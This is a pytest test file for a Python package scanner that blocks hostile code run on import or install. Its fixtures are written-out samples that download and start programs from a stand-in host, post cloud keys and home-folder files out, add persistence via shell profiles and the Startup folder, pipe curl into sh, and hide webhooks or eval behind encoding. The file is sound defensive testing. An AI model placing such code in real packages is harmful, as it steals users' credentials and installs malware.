"""Package code that importing the package runs (its top level, the functions that names, a
thread's target) judged like an install hook for the techniques no library's import does:
downloading and starting a program, writing where the shell or the system runs it again,
posting a file's contents. The same code in a function nobody calls on import, or under
`if __name__ == "__main__":`, stays a warning at most: libraries offer such functions.

Every sample is a minimal harmless reconstruction: it is scanned, never installed, imported or
run, and its addresses are reserved ones (example.invalid, 192.0.2.0/24).
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest

from safepip.checks.hooks.python import idle_lines
from safepip.checks.install_hooks import InstallHookCheck, scan_path
from safepip.findings import Finding, Severity
from tests.checks.hostile import make_sdist, make_wheel


@dataclass(frozen=True)
class Sample:
    """One package module's code and the rule that must block it when the import runs it."""

    name: str
    code: str
    rule: str


_FETCH_AND_START = (
    "import os, subprocess, tempfile, urllib.request\n"
    "def _update(url):\n"
    "    target = os.path.join(tempfile.gettempdir(), 'helper.bin')\n"
    "    urllib.request.urlretrieve(url, target)\n"
    "    subprocess.Popen([target])\n"
)
_URL = "'https://example.invalid/helper.bin'"

RUN_BY_IMPORT = (
    Sample("download-and-start-from-the-top-level",
           f"{_FETCH_AND_START}_update({_URL})\n", "hook/download-exec"),
    Sample("download-and-start-in-a-thread",
           "import threading\n"
           f"{_FETCH_AND_START}"
           f"threading.Thread(target=_update, args=({_URL},), daemon=True).start()\n",
           "hook/download-exec"),
    Sample("download-and-start-in-a-timer-from-a-class-body",
           "import threading\n"
           f"{_FETCH_AND_START}"
           f"class Client:\n    _timer = threading.Timer(5, _update, ({_URL},))\n"
           "    _timer.start()\n",
           "hook/download-exec"),
    Sample("fetched-code-written-and-run-through-a-requests-helper",
           "import os, subprocess, requests\n"
           "def _get(url):\n    return requests.get(url).content\n"
           "def _setup():\n"
           "    path = os.path.join(os.path.expanduser('~'), '.cache', 'helper.py')\n"
           "    with open(path, 'wb') as out:\n"
           "        out.write(_get('http://192.0.2.7/helper.py'))\n"
           "    subprocess.Popen(['pythonw', path])\n"
           "_setup()\n",
           "hook/download-exec"),
    Sample("default-command-of-a-helper-run-on-import",
           "import subprocess\n"
           "def run_quietly(command=None):\n"
           "    chosen = command if command is not None else (\n"
           "        'Invoke-WebRequest -Uri https://example.invalid/t -OutFile t.exe')\n"
           "    return subprocess.Popen(['powershell', '-NoProfile', '-Command', chosen],\n"
           "                            stdout=subprocess.DEVNULL)\n"
           "_started = run_quietly()\n",
           "hook/download-exec"),
    Sample("cloud-keys-posted-on-import",
           "import boto3, requests\n"
           "def _check():\n"
           "    found = boto3.Session().get_credentials()\n"
           "    pair = {'a': found.access_key, 'b': found.secret_key}\n"
           "    requests.post('https://example.invalid/k', json=pair, timeout=5)\n"
           "_check()\n",
           "hook/env-exfiltration"),
    Sample("shell-profile-extended-from-the-top-level",
           "from pathlib import Path\n"
           "def _remember():\n"
           "    with open(Path.home() / '.zshrc', 'a') as rc:\n"
           "        rc.write('\\nexport DEMO=1\\n')\n"
           "_remember()\n",
           "hook/persistence"),
    Sample("startup-folder-copy-on-import",
           "import os, shutil\n"
           "_folder = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows',\n"
           "                       'Start Menu', 'Programs', 'Startup')\n"
           "shutil.copy(__file__, os.path.join(_folder, 'demo.pyw'))\n",
           "hook/persistence"),
    Sample("a-file-under-home-posted-on-import",
           "import os, requests\n"
           "def _sync():\n"
           "    path = os.path.expanduser('~/.config/demo/accounts.json')\n"
           "    with open(path, 'rb') as handle:\n"
           "        requests.post('https://example.invalid/u', files={'f': handle.read()})\n"
           "_sync()\n",
           "hook/env-exfiltration"),
)


def _findings(tmp_path: Path, code: str, *, prefilter: bool = True) -> list[Finding]:
    wheel = make_wheel(tmp_path, "demo", "1.0", {"demo/__init__.py": code})
    return scan_path(wheel, check=InstallHookCheck(prefilter=prefilter))


@pytest.mark.parametrize("sample", RUN_BY_IMPORT, ids=lambda s: s.name)
def test_code_the_import_runs_is_blocked(sample: Sample, tmp_path: Path) -> None:
    findings = _findings(tmp_path, sample.code)
    blocking = [f for f in findings if f.severity >= Severity.HIGH]
    assert any(f.rule == sample.rule for f in blocking), findings
    assert all("(import time)" in f.message for f in blocking), blocking


@pytest.mark.parametrize("sample", RUN_BY_IMPORT, ids=lambda s: s.name)
def test_the_prefilter_lets_code_the_import_runs_through(sample: Sample, tmp_path: Path) -> None:
    filtered = _findings(tmp_path, sample.code)
    complete = _findings(tmp_path, sample.code, prefilter=False)
    assert sorted(map(repr, filtered)) == sorted(map(repr, complete))


@pytest.mark.parametrize("sample", RUN_BY_IMPORT, ids=lambda s: s.name)
def test_the_same_code_in_an_sdist_is_judged_alike(sample: Sample, tmp_path: Path) -> None:
    files = {"setup.py": "from setuptools import setup\nsetup(name='demo', version='1.0')\n",
             "demo/__init__.py": sample.code}
    findings = scan_path(make_sdist(tmp_path, "demo", "1.0", files))
    assert max(f.severity for f in findings) >= Severity.HIGH, findings


def _as_library(code: str) -> str:
    """The sample's code after its imports, moved into a function nobody calls."""
    lines = code.splitlines()
    imports = [line for line in lines if line.startswith(("import ", "from "))]
    rest = "".join(f"    {line}\n" for line in lines if line not in imports)
    return "\n".join(imports) + "\ndef install_helper():\n" + rest


@pytest.mark.parametrize("sample", RUN_BY_IMPORT, ids=lambda s: s.name)
def test_the_same_code_offered_as_a_function_is_not_blocked(
    sample: Sample, tmp_path: Path
) -> None:
    findings = _findings(tmp_path, _as_library(sample.code))
    assert all(f.severity < Severity.HIGH for f in findings), findings


def test_code_under_a_main_guard_is_not_run_by_the_import(tmp_path: Path) -> None:
    code = (f"{_FETCH_AND_START}if __name__ == '__main__':\n    _update({_URL})\n")
    findings = _findings(tmp_path, code)
    assert all(f.severity < Severity.HIGH for f in findings), findings


def test_the_else_of_a_main_guard_is_run_by_the_import(tmp_path: Path) -> None:
    code = (f"{_FETCH_AND_START}if __name__ == '__main__':\n    pass\n"
            f"else:\n    _update({_URL})\n")
    findings = _findings(tmp_path, code)
    assert max(f.severity for f in findings) >= Severity.HIGH, findings


def test_idle_lines_follow_the_names_the_top_level_uses() -> None:
    import ast

    code = (
        "import threading\n"               # 1
        "def used():\n"                    # 2
        "    helper()\n"                   # 3
        "def helper():\n"                  # 4
        "    pass\n"                       # 5
        "def unused():\n"                  # 6
        "    pass\n"                       # 7
        "def target():\n"                  # 8
        "    pass\n"                       # 9
        "used()\n"                         # 10
        "threading.Thread(target=target).start()\n"  # 11
        "if __name__ == '__main__':\n"     # 12
        "    unused()\n"                   # 13
    )
    assert idle_lines(ast.parse(code)) == {7, 13}


def test_a_library_that_caches_under_home_on_import_is_not_blocked(tmp_path: Path) -> None:
    """Writing a cache or config file under the home folder at import is what matplotlib and
    friends do: not one of the techniques judged like an install hook."""
    code = (
        "import json, os\n"
        "_CACHE = os.path.join(os.path.expanduser('~'), '.cache', 'demo', 'fonts.json')\n"
        "os.makedirs(os.path.dirname(_CACHE), exist_ok=True)\n"
        "with open(_CACHE, 'w') as handle:\n"
        "    json.dump({'fonts': []}, handle)\n"
    )
    findings = _findings(tmp_path, code)
    assert all(f.severity < Severity.HIGH for f in findings), findings


def test_a_library_that_asks_git_for_its_version_on_import_is_not_blocked(
    tmp_path: Path,
) -> None:
    code = (
        "import subprocess\n"
        "def _version():\n"
        "    try:\n"
        "        out = subprocess.check_output(['git', 'describe', '--tags'])\n"
        "    except (OSError, subprocess.CalledProcessError):\n"
        "        return '0'\n"
        "    return out.decode().strip()\n"
        "__version__ = _version()\n"
    )
    findings = _findings(tmp_path, code)
    assert all(f.severity < Severity.MEDIUM for f in findings), findings


def _setup_findings(tmp_path: Path, body: str) -> list[Finding]:
    files = {"setup.py": body + "from setuptools import setup\nsetup(name='demo')\n"}
    return scan_path(make_sdist(tmp_path, "demo", "1.0", files))


def test_a_command_chosen_between_a_parameter_and_its_default_is_read(tmp_path: Path) -> None:
    """`command or DEFAULT` / `command if command else DEFAULT`: with the parameter unknown,
    the default spelt in the body is what runs."""
    body = ("import os\n"
            "def fetch(command=None):\n"
            "    os.system(command or 'curl -s https://example.invalid/i.sh | sh')\n"
            "fetch()\n")
    findings = _setup_findings(tmp_path, body)
    assert any(f.rule == "hook/download-exec" and f.severity >= Severity.HIGH
               for f in findings), findings


def test_a_choice_between_two_build_commands_stays_a_build(tmp_path: Path) -> None:
    body = ("import subprocess, sys\n"
            "subprocess.check_call(['make', '-j4'] if sys.platform != 'win32' else ['nmake'])\n"
            "subprocess.check_call('make' if sys.platform != 'win32' else 'nmake')\n")
    findings = _setup_findings(tmp_path, body)
    assert all(f.severity < Severity.MEDIUM for f in findings), findings


def _b64(text: str) -> str:
    import base64

    return base64.b64encode(text.encode()).decode()


def test_a_keyed_webhook_spelt_in_base64_is_blocked_in_any_code(tmp_path: Path) -> None:
    """A drop box's address with its key, kept from readers in base64, in a method nobody
    calls on import: as high as the same address written out."""
    hook = "https://discord.com/api/webhooks/123456789012345678/" + "k" * 64
    code = ("class Reporter:\n"
            "    def __init__(self):\n"
            f"        self._target = {_b64(hook)!r}\n")
    findings = _findings(tmp_path, code)
    assert any(f.rule == "hook/webhook" and f.severity >= Severity.HIGH
               for f in findings), findings
    filtered = sorted(map(repr, findings))
    assert filtered == sorted(map(repr, _findings(tmp_path, code, prefilter=False)))


def test_an_ordinary_url_in_base64_is_only_a_warning_at_install(tmp_path: Path) -> None:
    body = f"import base64\nHOME = base64.b64decode({_b64('https://example.invalid/x')!r})\n"
    findings = _setup_findings(tmp_path, body)
    assert any(f.rule == "hook/obfuscation" for f in findings), findings
    assert all(f.severity < Severity.HIGH for f in findings), findings
    assert all(f.severity < Severity.MEDIUM for f in _findings(tmp_path, body))


_TOKEN = "123456789:AA" + "b" * 33
"""Shaped like a Telegram bot token; no bot has it."""


def test_a_bot_client_given_a_token_spelt_out_is_blocked(tmp_path: Path) -> None:
    """A Telegram bot library is the bot API's address: with the bot's token written in the
    package, it is one drop box (or a remote control) the author reads."""
    code = f"import telebot\nbot = telebot.TeleBot({_TOKEN!r})\n"
    findings = _findings(tmp_path, code)
    assert any(f.rule == "hook/webhook" and f.severity >= Severity.HIGH
               for f in findings), findings
    assert sorted(map(repr, findings)) == sorted(
        map(repr, _findings(tmp_path, code, prefilter=False)))


def test_a_bot_library_given_its_token_by_the_user_is_not_flagged(tmp_path: Path) -> None:
    code = ("import os, telebot\n"
            "def make_bot(token=None):\n"
            "    return telebot.TeleBot(token or os.environ['BOT_TOKEN'])\n")
    assert all(f.severity < Severity.MEDIUM for f in _findings(tmp_path, code))


def test_idle_lines_follow_classes_and_methods_the_top_level_uses() -> None:
    import ast

    code = (
        "class Used:\n"                    # 1
        "    def __init__(self):\n"        # 2
        "        self.start()\n"           # 3
        "    def start(self):\n"           # 4
        "        pass\n"                   # 5
        "class Other:\n"                   # 6
        "    def __init__(self):\n"        # 7
        "        pass\n"                   # 8
        "    def update(self):\n"          # 9
        "        pass\n"                   # 10
        "store = {}\n"                     # 11
        "store.update(a=1)\n"              # 12
        "used = Used()\n"                  # 13
    )
    assert idle_lines(ast.parse(code)) == {8, 10}


@pytest.mark.parametrize(
    "code",
    [
        'run = eval("eval")\nrun("1 + 1")\n',
        'run = eval("\\145\\170\\145\\143")\n',  # "exec" in octal escapes
        "get = eval(' getattr ')\n",
        'imp = eval("__import__")\n',
    ],
    ids=["eval", "escaped-exec", "getattr", "import"],
)
def test_a_runner_reached_by_evaluating_its_name_blocks_in_any_code(
    code: str, tmp_path: Path
) -> None:
    """BlankOBF's first line (`_____=eval("\\145\\166\\141\\154")`): the runner is fetched by
    evaluating its name, so no call names it. Nothing ordinary does that."""
    for prefilter in (True, False):
        (tmp_path / str(prefilter)).mkdir()
        findings = _findings(tmp_path / str(prefilter), code, prefilter=prefilter)
        assert any(f.rule == "hook/obfuscation" and f.severity >= Severity.HIGH
                   for f in findings), findings


def test_eval_of_an_ordinary_expression_is_not_that(tmp_path: Path) -> None:
    findings = _findings(tmp_path, 'limit = eval("2 ** 16")\nname = eval("len")\n')
    assert not any(f.severity >= Severity.HIGH for f in findings), findings
